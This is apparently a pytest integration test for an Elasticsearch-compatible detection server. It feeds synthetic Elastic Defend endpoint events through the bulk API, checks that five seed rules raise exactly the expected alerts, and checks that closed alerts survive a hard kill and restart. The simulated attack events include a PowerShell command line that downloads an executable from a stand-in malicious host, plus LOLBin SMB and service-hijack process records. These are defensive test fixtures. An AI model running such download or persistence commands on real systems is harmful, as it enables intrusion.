"""Issue 18's bar, end to end against a real `lanner serve --http`: the five seed rules, an
empty store, held-out events shipped through `_bulk` (gzip, blank lines, `create` into data
streams), a manual run over the last ten minutes, the alerts read with the official client
and with Kibana's signals API, closed, then `kill -9`, a restart, and nothing lost or doubled.

The events are written here (not the examples/events files): Elastic Defend's shapes, one
attack per seed rule and near misses that each rule's conditions or exclusions must drop."""

from __future__ import annotations

import base64
import datetime
import gzip
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from elasticsearch import Elasticsearch

from tests.server.live import ROOT, Server

SEED = ROOT.parent / "shared" / "rules" / "seed"
ALERTS = ".alerts-security.alerts-default"
KIBANA = {"kbn-xsrf": "lanner-tests"}
AGENT = "3f1e9a52-0c7d-4b8e-a6d1-5b2c8e9f7a14"

WEBSVC = "66883649-f908-4a5b-a1e0-54090a1d3a32"
BITS = "f95972d3-c23b-463b-89a8-796b3f369b49"
PSDL = "33f306e8-417c-411b-965c-c2812d6d3f4d"
SMB = "c82c7d8f-fb9e-4874-a4bd-fd9e3f9becf1"
USO = "265db8f5-fc73-4d0d-b434-6483b56372e2"

BOB = ("ENG", "bob", "S-1-5-21-1004336348-1177238915-682003330-1291")
SYSTEM = ("NT AUTHORITY", "SYSTEM", "S-1-5-18")
NETWORK_SERVICE = ("NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20")

pytestmark = pytest.mark.skipif(not SEED.is_dir(), reason="../shared/rules/seed is missing")


def _stamp(moment: datetime.datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def _entity(pid: int, start: int) -> str:
    return base64.b64encode(f"{AGENT}-{pid}-{start}.0000000".encode()).decode()


class Shipper:
    """Builds Defend-shaped events at increasing times within the last few minutes."""

    def __init__(self) -> None:
        self.clock = datetime.datetime.now(datetime.UTC) - datetime.timedelta(minutes=6)
        self.events: list[tuple[str, dict[str, Any]]] = []

    def _base(self, kind: str, event_id: str, action: str, types: list[str],
              user: tuple[str, str, str], gap: float) -> dict[str, Any]:
        self.clock += datetime.timedelta(seconds=gap)
        stamp = _stamp(self.clock)
        dataset = f"endpoint.events.{kind}"
        return {
            "@timestamp": stamp,
            "agent": {"id": AGENT, "type": "endpoint", "version": "8.15.3"},
            "data_stream": {"dataset": dataset, "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {"action": action, "category": [kind], "created": stamp,
                      "dataset": dataset, "id": event_id, "kind": "event",
                      "module": "endpoint", "outcome": "success", "type": types},
            "host": {"architecture": "x86_64", "hostname": "WS-ENG-117", "name": "WS-ENG-117",
                     "id": "9d2c4b1e-7a3f-4e6d-8c5b-2f1a0e9d8c7b", "ip": ["10.31.2.117"],
                     "os": {"family": "windows", "name": "Windows", "platform": "windows",
                            "type": "windows", "version": "23H2 (10.0.22631.4460)"}},
            "user": {"domain": user[0], "name": user[1], "id": user[2]},
        }

    def add(self, kind: str, event_id: str, action: str, types: list[str],
            process: dict[str, Any], *, user: tuple[str, str, str] = BOB, gap: float = 2.0,
            **more: Any) -> None:
        event = self._base(kind, event_id, action, types, user, gap)
        event["process"] = process
        event.update(more)
        self.events.append((f"logs-endpoint.events.{kind}-default", event))


def _process(name: str, executable: str, pid: int, *, args: list[str] | None = None,
             trusted: bool = True, signer: str = "Microsoft Windows",
             parent: dict[str, Any] | None = None) -> dict[str, Any]:
    args = args or [executable]
    process: dict[str, Any] = {
        "name": name, "executable": executable, "pid": pid, "args": args,
        "args_count": len(args), "command_line": " ".join(args),
        "entity_id": _entity(pid, 13_400_000_000 + pid),
        "code_signature": {"exists": True, "status": "trusted" if trusted else "errorBadDigest",
                           "subject_name": signer, "trusted": trusted},
    }
    if parent:
        process["parent"] = parent
    return process


def _dns(name: str) -> dict[str, Any]:
    return {"dns": {"question": {"name": name, "type": "A"}},
            "network": {"protocol": "dns", "direction": "outgoing", "transport": "udp"},
            "destination": {"ip": "10.31.0.53", "port": 53}}


def _file(path: str, *, original: str | None = None, header: str | None = None
          ) -> dict[str, Any]:
    name = path.rsplit("\\", 1)[-1]
    file: dict[str, Any] = {"path": path, "name": name, "extension": name.rsplit(".", 1)[-1],
                            "directory": path.rsplit("\\", 1)[0]}
    ext: dict[str, Any] = {}
    if original:
        ext["original"] = {"name": original.rsplit("\\", 1)[-1], "path": original}
    if header:
        ext["header_bytes"] = header
    if ext:
        file["Ext"] = ext
    return {"file": file}


def held_out_events() -> tuple[list[tuple[str, dict[str, Any]]], dict[str, list[str]]]:
    """The events, and per rule the event ids of each expected alert (a sequence's, in order)."""
    s = Shipper()
    psh = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    svchost = "C:\\Windows\\System32\\svchost.exe"
    bits_host = _process("svchost.exe", svchost, 1844,
                         args=[svchost, "-k", "netsvcs", "-p", "-s", "BITS"])
    uso_parent = {"name": "svchost.exe", "executable": svchost, "pid": 1312,
                  "args": [svchost, "-k", "netsvcs", "-p", "-s", "UsoSvc"],
                  "command_line": f"{svchost} -k netsvcs -p -s UsoSvc",
                  "entity_id": _entity(1312, 13_399_000_000)}

    # 1. Connection to Commonly Abused Web Services: an unsigned implant asks for Discord's CDN
    implant = _process("msedge_update.exe", "C:\\Users\\bob\\AppData\\Roaming\\msedge_update.exe",
                       6120, trusted=False, signer="")
    s.add("network", "web-tp-dns", "lookup_requested", ["protocol"], implant,
          **_dns("cdn.discordapp.com"))
    # near misses: the same implant asks for a name not on the list; Chrome in Program Files
    # asks for one on it; NETWORK SERVICE asks for one on it
    s.add("network", "web-fp-unlisted", "lookup_requested", ["protocol"], implant,
          **_dns("status.example.net"))
    chrome = _process("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                      7012, signer="Google LLC")
    s.add("network", "web-fp-chrome", "lookup_requested", ["protocol"], chrome,
          **_dns("drive.google.com"))
    s.add("network", "web-fp-netsvc", "lookup_requested", ["protocol"],
          _process("curl.exe", "C:\\Temp\\curl.exe", 7020, trusted=False, signer=""),
          user=NETWORK_SERVICE, **_dns("pastebin.com"))

    # 2. Ingress Transfer via Windows BITS: the BITS service renames a download to a .exe
    s.add("file", "bits-tp-rename", "rename", ["change"], bits_host, user=SYSTEM,
          **_file("C:\\Users\\bob\\Downloads\\invoice_viewer.exe",
                  original="C:\\Users\\bob\\Downloads\\BIT7F3A.tmp", header="4d5a9000"))
    # near misses: into Program Files (excluded); a .txt without an MZ header
    s.add("file", "bits-fp-programfiles", "rename", ["change"], bits_host, user=SYSTEM,
          **_file("C:\\Program Files\\Contoso\\updater.exe",
                  original="C:\\Program Files\\Contoso\\BIT12AB.tmp", header="4d5a9000"))
    s.add("file", "bits-fp-text", "rename", ["change"], bits_host, user=SYSTEM,
          **_file("C:\\Users\\bob\\Downloads\\notes.txt",
                  original="C:\\Users\\bob\\Downloads\\BIT99CD.tmp", header="48656c6c"))

    # 3. Remote File Download via PowerShell: a DNS lookup then an .exe written within 30 s
    ps_dl = _process("powershell.exe", psh, 4404,
                     args=[psh, "-nop", "-c", "iwr https://files.evil-cdn.site/a -OutFile a.exe"])
    s.add("network", "psdl-tp-dns", "lookup_result", ["protocol", "info"], ps_dl,
          **_dns("files.evil-cdn.site"))
    s.add("file", "psdl-tp-create", "creation", ["creation"], ps_dl, gap=4.0,
          **_file("C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe", header="4d5a9000"))
    # near miss: PowerShell Gallery (excluded domain) then a module DLL
    ps_gallery = _process("powershell.exe", psh, 4520,
                          args=[psh, "-c", "Install-Module PSReadLine"])
    s.add("network", "psdl-fp-dns", "lookup_result", ["protocol", "info"], ps_gallery,
          **_dns("www.powershellgallery.com"))
    s.add("file", "psdl-fp-create", "creation", ["creation"], ps_gallery, gap=3.0,
          **_file("C:\\Users\\bob\\Documents\\WindowsPowerShell\\Modules\\PSReadLine\\x.dll"))

    # 4. SMB Connections via LOLBin or Untrusted Process: a started LOLBin connects to 445
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    lolbin = _process("rundll32.exe", rundll, 5288,
                      args=[rundll, "C:\\Users\\Public\\s.dll,Run"])
    s.add("process", "smb-tp-start", "start", ["start"], lolbin)
    s.add("network", "smb-tp-connect", "connection_attempted", ["start"], lolbin, gap=5.0,
          destination={"ip": "10.31.9.20", "port": 445},
          source={"ip": "10.31.2.117", "port": 50311},
          network={"direction": "egress", "transport": "tcp", "type": "ipv4"})
    # near misses: a trusted non-Microsoft backup agent does the same; System (PID 4) on 445
    backup = _process("BackupAgent.exe", "C:\\Program Files\\Acme\\BackupAgent.exe", 3010,
                      signer="Acme Backup Ltd")
    s.add("process", "smb-fp-start", "start", ["start"], backup)
    s.add("network", "smb-fp-connect", "connection_attempted", ["start"], backup,
          destination={"ip": "10.31.9.30", "port": 445},
          network={"direction": "egress", "transport": "tcp", "type": "ipv4"})
    s.add("network", "smb-fp-system", "connection_accepted", ["start"],
          _process("System", "System", 4), user=SYSTEM,
          destination={"ip": "10.31.2.117", "port": 445},
          network={"direction": "ingress", "transport": "tcp", "type": "ipv4"})

    # 5. Persistence via Update Orchestrator Service Hijack: UsoSvc's host starts a payload
    s.add("process", "uso-tp-start", "start", ["start"],
          _process("wscript.exe", "C:\\Windows\\System32\\wscript.exe", 6666,
                   args=["C:\\Windows\\System32\\wscript.exe", "C:\\ProgramData\\u.vbs"],
                   parent=uso_parent), user=SYSTEM)
    # near miss: its normal worker
    s.add("process", "uso-fp-worker", "start", ["start"],
          _process("MoUsoCoreWorker.exe", "C:\\Windows\\System32\\MoUsoCoreWorker.exe", 6700,
                   parent=uso_parent), user=SYSTEM)

    expected = {WEBSVC: [["web-tp-dns"]], BITS: [["bits-tp-rename"]],
                PSDL: [["psdl-tp-dns", "psdl-tp-create"]],
                SMB: [["smb-tp-start", "smb-tp-connect"]], USO: [["uso-tp-start"]]}
    return s.events, expected


def _gzip_bulk(events: list[tuple[str, dict[str, Any]]]) -> bytes:
    lines = [b""]  # a blank line first, as some shippers send
    for number, (stream, event) in enumerate(events):
        lines.append(orjson.dumps({"create": {"_index": stream}}))
        lines.append(orjson.dumps(event))
        if number % 3 == 0:
            lines.append(b"")
    return gzip.compress(b"\n".join(lines) + b"\n\n")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    running = Server(tmp_path)
    running.rules = SEED
    yield running
    running.stop()


def _signals(server: Server, body: dict[str, Any]) -> dict[str, Any]:
    response = httpx.post(server.url + "/api/detection_engine/signals/search", json=body,
                          headers=KIBANA, timeout=30)
    assert response.status_code == 200, response.text
    return response.json()


def _run(server: Server, start: datetime.datetime, end: datetime.datetime) -> dict[str, Any]:
    response = httpx.post(server.url + "/api/detection_engine/rules/_bulk_action",
                          headers=KIBANA, timeout=120, json={
                              "action": "run", "query": "",
                              "run": {"start_date": _stamp(start), "end_date": _stamp(end)}})
    assert response.status_code == 200, response.text
    return response.json()


def _alerts(es: Elasticsearch) -> list[dict[str, Any]]:
    found = es.search(index=ALERTS, query={"match_all": {}}, size=1000)
    assert found["hits"]["total"]["relation"] == "eq"
    assert found["hits"]["total"]["value"] == len(found["hits"]["hits"])
    return found["hits"]["hits"]


def test_the_bar(server: Server) -> None:
    server.start()
    events, expected = held_out_events()
    by_id = {event["event"]["id"]: event for _, event in events}

    # ship: gzip, blank lines, `create` into data streams
    response = httpx.post(server.url + "/_bulk", content=_gzip_bulk(events), timeout=60,
                          headers={"Content-Type": "application/x-ndjson",
                                   "Content-Encoding": "gzip"})
    assert response.status_code == 200, response.text
    shipped = response.json()
    assert shipped["errors"] is False, shipped
    assert [item["create"]["status"] for item in shipped["items"]] == [201] * len(events)
    streams = sorted({stream for stream, _ in events})
    es = Elasticsearch(server.url, request_timeout=60)
    counts = {stream: es.count(index=stream)["count"] for stream in streams}
    assert sum(counts.values()) == len(events)

    # a manual run over the last ten minutes
    end = datetime.datetime.now(datetime.UTC)
    run = _run(server, end - datetime.timedelta(minutes=10), end)
    assert run["success"] is True
    assert run["attributes"]["summary"] == {"failed": 0, "skipped": 0, "succeeded": 5,
                                            "total": 5}

    # exactly the expected alerts, with the official client
    hits = _alerts(es)
    shells = [h for h in hits if "kibana.alert.building_block_type" not in h["_source"]]
    got: dict[str, list[list[str]]] = {}
    for hit in shells:
        source = hit["_source"]
        assert source["kibana.alert.workflow_status"] == "open"
        rule_id = source["kibana.alert.rule.rule_id"]
        if "kibana.alert.group.id" in source:
            members = sorted((h["_source"] for h in hits
                              if h["_source"].get("kibana.alert.group.id")
                              == source["kibana.alert.group.id"]
                              and h["_id"] != hit["_id"]),
                             key=lambda a: a["kibana.alert.group.index"])
            got.setdefault(rule_id, []).append([m["event"]["id"] for m in members])
        else:
            got.setdefault(rule_id, []).append([source["event"]["id"]])
            assert source["kibana.alert.original_time"] == by_id[source["event"]["id"]][
                "@timestamp"]
    assert got == expected
    # a sequence's building blocks are in the index too, as Kibana writes them
    assert len(hits) == len(shells) + 4
    ids = {h["_id"] for h in hits}
    assert len(ids) == len(hits) == 9

    # the same alerts with Kibana's signals/search
    signals = _signals(server, {"query": {"match_all": {}}, "size": 100})
    assert signals["hits"]["total"]["value"] == len(ids)
    assert {h["_id"] for h in signals["hits"]["hits"]} == ids
    on_rule = _signals(server, {"query": {"bool": {"filter": [
        {"term": {"kibana.alert.rule.rule_id": USO}}]}}})
    assert [h["_source"]["event"]["id"] for h in on_rule["hits"]["hits"]] == ["uso-tp-start"]

    # close them: signals/status by ids, then every one reads closed
    closed = httpx.post(server.url + "/api/detection_engine/signals/status", headers=KIBANA,
                        json={"signal_ids": sorted(ids), "status": "closed"}, timeout=30)
    assert closed.status_code == 200, closed.text
    assert closed.json()["updated"] == len(ids)
    assert {h["_source"]["kibana.alert.workflow_status"] for h in _alerts(es)} == {"closed"}
    still_open = _signals(server, {"query": {"bool": {"filter": [
        {"term": {"kibana.alert.workflow_status": "open"}}]}}})
    assert still_open["hits"]["total"]["value"] == 0
    es.close()

    # kill -9, restart on the same store: nothing lost, nothing doubled
    server.kill()
    server.start()
    es = Elasticsearch(server.url, request_timeout=60)
    try:
        assert {stream: es.count(index=stream)["count"] for stream in streams} == counts
        after = _alerts(es)
        assert {h["_id"] for h in after} == ids
        assert {h["_source"]["kibana.alert.workflow_status"] for h in after} == {"closed"}
        again = _run(server, end - datetime.timedelta(minutes=10), end)
        assert again["attributes"]["summary"]["succeeded"] == 5
        final = _alerts(es)
        assert {h["_id"] for h in final} == ids
        assert {h["_source"]["kibana.alert.workflow_status"] for h in final} == {"closed"}
        assert _signals(server, {"query": {"match_all": {}}})["hits"]["total"]["value"] == 9
    finally:
        es.close()
